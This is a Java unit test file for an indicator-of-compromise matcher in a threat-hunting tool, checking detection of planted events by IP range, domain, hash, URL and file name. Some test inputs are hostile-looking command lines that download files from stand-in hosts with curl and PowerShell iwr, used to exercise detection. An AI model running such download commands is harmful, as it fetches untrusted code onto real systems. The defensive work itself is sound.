package tansa.ioc;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;
import tansa.event.Event;
import tansa.reader.EvidenceReader;
import tansa.reader.Problems;
import tansa.sigma.Detection;
import tansa.testing.SharedData;

import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

class IocMatcherTest {
    private static final ObjectMapper M = new ObjectMapper();

    private static List<Detection> hunt(List<Path> iocs, List<Path> evidence) {
        IocLoad load = IocLoader.load(iocs);
        List<Detection> out = new ArrayList<>();
        IocHunter h = new IocHunter(IocMatcher.compile(load.indicators()), out::add);
        new EvidenceReader(1, Problems.IGNORE).read(evidence, e -> h.accept(e, h.prepare(e)));
        h.finish();
        return out;
    }

    /** record id -> indicator ids, sorted. */
    private static Map<Long, List<String>> hits(List<Detection> ds) {
        Map<Long, List<String>> m = new TreeMap<>();
        for (Detection d : ds) {
            m.computeIfAbsent(d.recordId(), k -> new ArrayList<>()).add(d.rule().id());
        }
        m.values().forEach(l -> l.sort(null));
        return m;
    }

    @Test
    void stixBundleFindsExactlyThePlantedEventsAndNotTheNearMisses() {
        List<Detection> ds = hunt(List.of(IocLoaderTest.DIR.resolve("stix-bundle.json")),
                List.of(IocLoaderTest.DIR.resolve("planted.jsonl")));
        Map<Long, List<String>> expected = new TreeMap<>(Map.of(
                1001L, List.of("indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f"),
                1002L, List.of("indicator--0b8d0c3e-7b4a-4bc4-9a7e-6f0f54d0a1a2"),
                1003L, List.of("indicator--0b8d0c3e-7b4a-4bc4-9a7e-6f0f54d0a1a2"),
                1004L, List.of("indicator--c4a6f5b2-9d1e-4f7a-8b3c-2e5d6f7a8b9c"),
                1005L, List.of("indicator--1f2e3d4c-5b6a-4978-8a9b-0c1d2e3f4a5b"),
                1006L, List.of("indicator--a3b4c5d6-e7f8-4a9b-8c0d-1e2f3a4b5c6d"),
                1007L, List.of("indicator--d7e8f9a0-b1c2-4d3e-9f4a-5b6c7d8e9f0a"),
                1008L, List.of("indicator--e1f2a3b4-c5d6-4e7f-8a9b-0c1d2e3f4a5c"),
                1009L, List.of("indicator--e1f2a3b4-c5d6-4e7f-8a9b-0c1d2e3f4a5c")));
        assertEquals(expected, hits(ds));
        Detection md5 = ds.stream().filter(d -> d.recordId() == 1006).findFirst().orElseThrow();
        assertEquals("Credential dumper", md5.rule().title());
        assertEquals("high", md5.rule().level()); // confidence 100: STIX's High band
        assertTrue(md5.fields().get("Hashes").contains("MD5=0D1E3C3D6E0B2B8F1C5D9A7E4F2B6C8A"), md5.fields().toString());
        assertEquals("ws07.corp.example.local", md5.computer());
        assertEquals("1", md5.eventId());
        Detection both = ds.stream().filter(d -> d.recordId() == 1007).findFirst().orElseThrow();
        assertEquals(List.of("Image", "Hashes"), new ArrayList<>(both.fields().keySet()));
        Detection v4mapped = ds.stream().filter(d -> d.recordId() == 1003).findFirst().orElseThrow();
        assertEquals(Map.of("IpAddress", "::ffff:203.0.113.9"), v4mapped.fields());
    }

    @Test
    void theSharedEvtxCorpusRaisesNothing() {
        Path corpus = SharedData.evtxCorpus();
        List<Detection> ds = hunt(List.of(IocLoaderTest.DIR.resolve("stix-bundle.json"), IocLoaderTest.DIR.resolve("misp-event.json"),
                IocLoaderTest.DIR.resolve("misp-feed"), IocLoaderTest.DIR.resolve("misp-export.csv")), List.of(corpus));
        assertEquals(List.of(), ds.stream().map(d -> d.rule().id() + " " + d.source() + " " + d.recordId()).toList());
    }

    /**
     * A stream job sends the matches of multi-observation indicators elsewhere
     * ({@link IocHunter#conjunctionsTo}) and reports them with {@link IocHunter#finishing}: the
     * same detections, in the same order, as {@link IocHunter#finish}.
     */
    @Test
    void conjunctionsReportedElsewhereGiveWhatFinishGives() {
        List<Path> iocs = List.of(IocLoaderTest.DIR.resolve("stix-bundle.json"));
        List<Path> evidence = List.of(IocLoaderTest.DIR.resolve("planted.jsonl"), IocLoaderTest.DIR.resolve("planted.jsonl"));
        List<Detection> expected = hunt(iocs, evidence);
        List<Detection> out = new ArrayList<>();
        Map<Integer, java.util.BitSet> seen = new java.util.LinkedHashMap<>();
        Map<Integer, Integer> sizes = new java.util.HashMap<>();
        Map<Integer, List<Detection>> pending = new java.util.LinkedHashMap<>();
        IocHunter h = new IocHunter(IocMatcher.compile(IocLoader.load(iocs).indicators()), out::add)
                .conjunctionsTo((key, conj, size, positions, d) -> {
                    seen.computeIfAbsent(conj, k -> new java.util.BitSet()).or(positions);
                    sizes.put(conj, size);
                    if (d != null) {
                        pending.computeIfAbsent(conj, k -> new ArrayList<>()).add(d);
                    }
                });
        new EvidenceReader(1, Problems.IGNORE).read(evidence, e -> h.accept(e, h.prepare(e)));
        h.finish();
        java.util.Set<String> done = new java.util.HashSet<>();
        for (Map.Entry<Integer, List<Detection>> p : pending.entrySet()) {
            IocHunter.finishing(seen.get(p.getKey()), sizes.get(p.getKey()), p.getValue(), done, out::add);
        }
        assertTrue(expected.stream().anyMatch(d -> d.recordId() == 1008), "the bundle's [a] AND [b] indicator is met");
        assertEquals(expected.stream().map(d -> d.rule().id() + " " + d.source() + " " + d.recordId() + " " + d.fields()).toList(),
                out.stream().map(d -> d.rule().id() + " " + d.source() + " " + d.recordId() + " " + d.fields()).toList());
    }

    private static Event event(Map<String, ?> data) {
        ObjectNode root = M.createObjectNode();
        ObjectNode ev = root.putObject("Event");
        ev.putObject("System").put("Channel", "Test").put("Computer", "h").put("EventID", 1);
        ev.set("EventData", M.valueToTree(data));
        return new Event(root, "t.json", 1, Instant.EPOCH);
    }

    private static IocMatcher matcher(String list) {
        IocLoad l = IocLoader.parse("list.txt", list);
        assertEquals(List.of(), l.problems());
        return IocMatcher.compile(l.indicators());
    }

    private static boolean matches(IocMatcher m, String field, String value) {
        return m.match(event(Map.of(field, value)).fields()) != null;
    }

    @Test
    void addressesInsideOverlappingV4AndV6Ranges() {
        IocMatcher m = matcher("10.0.0.0/8\n10.1.2.0/24\n10.1.2.3\n2001:db8::/32\n2001:db8:1::/48\n0.0.0.0/0\n");
        IocMatcher narrow = matcher("10.1.2.0/24\n2001:db8:1::/48\n");
        assertTrue(matches(narrow, "DestinationIp", "10.1.2.255"));
        assertTrue(matches(narrow, "DestinationIp", "10.1.2.0"));
        assertTrue(!matches(narrow, "DestinationIp", "10.1.3.0"));
        assertTrue(!matches(narrow, "DestinationIp", "10.1.1.255"));
        assertTrue(matches(narrow, "DestinationIp", "2001:db8:1:ffff:ffff:ffff:ffff:ffff"));
        assertTrue(matches(narrow, "DestinationIp", "2001:DB8:1::1%12"));
        assertTrue(!matches(narrow, "DestinationIp", "2001:db8:2::1"));
        assertTrue(matches(narrow, "IpAddress", "::ffff:10.1.2.9"));
        assertTrue(!matches(narrow, "CommandLine", "ping 10.1.2.9"), "an address inside text is not an address value");
        assertEquals(4, m.match(event(Map.of("a", "10.1.2.3")).fields()).length, "/8, /24, /32 and 0/0: four indicators");
    }

    @Test
    void domainsMatchThemselvesAndSubdomainsLabelWise() {
        IocMatcher m = matcher("evil.example\n");
        assertTrue(matches(m, "QueryName", "evil.example"));
        assertTrue(matches(m, "QueryName", "A.B.EVIL.example."));
        assertTrue(!matches(m, "QueryName", "notevil.example"));
        assertTrue(!matches(m, "QueryName", "evil.example.com"));
        assertTrue(matches(m, "CommandLine", "curl -k https://cdn.evil.example:8443/x"), "host of a URL in a command line");
    }

    @Test
    void hashesInsideSysmonHashesAndUrlsNormalised() {
        IocMatcher m = matcher("a94a8fe5ccb19ba61c4c0873d391e987982fbbd3\nhttp://Files.Example.org:80/dl/a.ps1/\n");
        assertTrue(matches(m, "Hashes", "MD5=098F6BCD4621D373CADE4E832627B4F6,SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,IMPHASH=00"));
        assertTrue(!matches(m, "Hashes", "SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3AA"));
        assertTrue(matches(m, "CommandLine", "iwr \"HTTP://files.example.org/dl/a.ps1\" -o x"));
        assertTrue(matches(m, "url", "http://files.example.org/dl/a.ps1#frag"));
        assertTrue(!matches(m, "url", "https://files.example.org/dl/a.ps1"));
        assertTrue(!matches(m, "url", "http://files.example.org/dl/a.ps1?x=1"));
        assertEquals("https://a.example/", Urls.normalize("HTTPS://user:pw@A.Example.:443"));
        assertEquals("http://a.example:8080/p%2F?q=%AA", Urls.normalize("a.example:8080/p%2f/?q=%aa"));
    }

    @Test
    void fileNamesAreTheLastPathComponentCaseInsensitive() {
        IocMatcher m = matcher("PsExeSvc-X.exe\n");
        assertTrue(matches(m, "Image", "C:\\Windows\\psexesvc-x.EXE"));
        assertTrue(matches(m, "TargetFilename", "/tmp/PSEXESVC-X.exe"));
        assertTrue(!matches(m, "Image", "C:\\Windows\\psexesvc-x.exe.bak"));
        assertNull(m.match(event(Map.of("Image", "C:\\x\\other.exe")).fields()));
    }
}
